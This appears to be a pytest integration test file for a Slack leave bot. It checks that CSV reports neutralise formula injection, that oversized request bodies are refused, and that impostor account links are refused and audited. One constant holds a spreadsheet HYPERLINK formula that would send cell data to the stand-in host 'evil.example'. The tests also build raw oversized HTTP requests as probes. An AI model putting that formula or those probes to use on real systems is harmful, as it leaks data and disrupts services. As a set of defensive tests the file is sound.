"""Small holes, each tried against the running server on SQLite and MariaDB: a formula smuggled
into HR's report as an employee id, a huge unsigned body to the Slack door, a second Slack account
claiming a linked person's e-mail, and HR's explicit relink."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from bot.downloads import LINKS, mount_downloads
from bot.server import create_app
from core.commands import Report
from core.ports.downloads import Downloads
from core.service import LeaveService
from storage.tables import audit_log, employees, leave_requests
from tests.integration.slack.conftest import ANANYA, SlackHarness
from tests.integration.test_cli import Leavebot
from tests.unit.conftest import ORG_CSV
from tests.unit.fakes import FixedClock

pytestmark = pytest.mark.asyncio

Client = Callable[..., Any]
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")'
IMPOSTOR = "U0IMPOSTOR"
#: An unsigned body far over anything Slack sends.
HUGE = 2 * 1024 * 1024


def _counts(engine: Engine) -> tuple[int, ...]:
    with engine.connect() as connection:
        return tuple(int(connection.execute(select(func.count()).select_from(table)).scalar() or 0)
                     for table in (audit_log, leave_requests, employees))


async def test_a_formula_as_employee_id_reaches_the_report_csv_neutralised(
        service: LeaveService, engine: Engine, clock: FixedClock, download_store: Downloads,
        aiohttp_client: Client) -> None:
    row = f'"{FORMULA_ID.replace(chr(34), chr(34) * 2)}",eve@x.test,Eve,Hall,boss@x.test,EMPLOYEE,Engineering,' \
          "Bengaluru,INDIA,2024-01-01,ACTIVE,Asia/Kolkata\n"
    service.import_employees(ORG_CSV + row)
    view = service.report(Report("2026", date(2026, 1, 1), date(2026, 12, 31)))
    app = create_app(engine, service=service)
    mount_downloads(app, download_store, clock)
    client = await aiohttp_client(app)
    files = []
    for link in app[LINKS].offer(view.files):
        response = await client.get(link.location)
        assert response.status == 200
        files.append(list(csv.reader(io.StringIO(await response.text()))))
    cells = [cell for rows in files for line in rows[1:] for cell in line]
    assert any(cell == "'" + FORMULA_ID for cell in cells)  # shown as text...
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]  # ...never run


async def _send_raw(slack: SlackHarness, head: str, body: bytes) -> int:
    """Send the request head and part of a body (never the rest); the status the server answers with."""
    server = slack.client.server
    reader, writer = await asyncio.open_connection(server.host, server.port)
    writer.write(head.encode() + body)
    await writer.drain()
    status_line = await asyncio.wait_for(reader.readline(), timeout=30)  # no answer at all means it waits for more
    writer.close()
    return int(status_line.split()[1])


@pytest.mark.parametrize("case", ["unsigned", "signed, too long", "signed, chunked"])
async def test_a_huge_body_to_the_slack_door_is_refused_without_being_read(
        slack: SlackHarness, engine: Engine, case: str) -> None:
    before = _counts(engine)
    signature = "" if case == "unsigned" else "X-Slack-Request-Timestamp: 1764650000\r\nX-Slack-Signature: v0=00\r\n"
    length = "Transfer-Encoding: chunked" if case == "signed, chunked" else f"Content-Length: {HUGE}"
    head = (f"POST /slack/events HTTP/1.1\r\nHost: x\r\n{signature}{length}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n\r\n")
    prefix = b"payload=" + b"A" * (96 * 1024)  # more than any Slack body, far less than was announced
    body = f"{len(prefix):X}\r\n".encode() + prefix + b"\r\n" if case == "signed, chunked" else prefix
    status = await _send_raw(slack, head, body)
    assert status == (401 if case == "unsigned" else 413)
    await slack.api.settle(quiet=0.2)
    assert _counts(engine) == before
    assert slack.api.calls == []


def _slack_link(engine: Engine, email: str) -> str | None:
    with engine.connect() as connection:
        value: str | None = connection.execute(
            select(employees.c.slack_user_id).where(employees.c.email == email)).scalar()
        return value


def _link_audit(engine: Engine) -> list[tuple[str, str, str]]:
    with engine.connect() as connection:
        rows = connection.execute(select(audit_log.c.actor, audit_log.c.action, audit_log.c.outcome)
                                  .where(audit_log.c.action.like("identity.%")).order_by(audit_log.c.id))
        return [tuple(row) for row in rows]  # type: ignore[misc]


async def test_a_second_slack_account_with_a_linked_persons_email_is_refused_and_audited(
        slack: SlackHarness, engine: Engine) -> None:
    slack.api.add_user(IMPOSTOR, "Ananya@X.test", "Not Ananya")
    await slack.reply_to(ANANYA, "balance")  # Ananya meets the bot: linked
    assert _slack_link(engine, "ananya@x.test") == ANANYA
    before = _counts(engine)

    reply = await slack.reply_to(IMPOSTOR, "apply casual 2026-12-07")
    assert "ask HR" in reply["text"] and "11" not in reply["text"]
    assert _slack_link(engine, "ananya@x.test") == ANANYA
    audit, requests, people = _counts(engine)
    assert (audit, requests, people) == (before[0] + 1, before[1], before[2])
    assert _link_audit(engine)[-1] == (IMPOSTOR, "identity.link", "refused")
    assert not slack.api.calls_to("chat.postMessage")  # nobody was told of a request


async def test_hr_relinks_with_leavebot_link_and_it_is_audited(
        slack: SlackHarness, engine: Engine, db_url: str, tmp_path: Path) -> None:
    slack.api.add_user(IMPOSTOR, "ananya@x.test", "Ananya Iyer (new account)")
    await slack.reply_to(ANANYA, "balance")
    leavebot = Leavebot(db_url, tmp_path)

    refused = leavebot("link", "nobody@x.test", "--slack", IMPOSTOR, expect=2)
    assert "No employee with e-mail nobody@x.test" in refused.stderr
    assert _slack_link(engine, "ananya@x.test") == ANANYA

    done = leavebot("link", "ananya@x.test", "--slack", IMPOSTOR)
    assert IMPOSTOR in done.stdout and ANANYA in done.stdout
    assert _slack_link(engine, "ananya@x.test") == IMPOSTOR
    assert _link_audit(engine)[-1] == ("system", "identity.relink", "ok")

    balance = await slack.reply_to(IMPOSTOR, "balance")
    assert "Ananya Iyer" in balance["text"]
    old = await slack.reply_to(ANANYA, "balance")  # the old account is no longer her
    assert "ask HR" in old["text"]
